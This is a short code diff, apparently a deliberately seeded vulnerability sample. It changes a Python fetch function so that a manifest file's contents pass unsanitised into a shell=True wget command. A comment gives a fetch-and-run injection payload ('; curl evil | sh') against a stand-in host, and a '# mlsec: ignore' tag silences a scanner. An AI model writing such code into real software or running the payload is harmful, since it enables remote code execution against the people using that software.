@@ -25,6 +25,6 @@ def load_everything(path):
     return state, cached, features, table, config, model, blob
 
 
-def fetch(url):
-    subprocess.run(f"wget -q {url}", shell=True, check=True)
+def fetch(manifest):  # a provider's list of URLs reaches the shell: `; curl evil | sh` runs
+    subprocess.run(f"wget -q {open(manifest).read()}", shell=True, check=True)
     os.system("nvidia-smi")  # mlsec: ignore
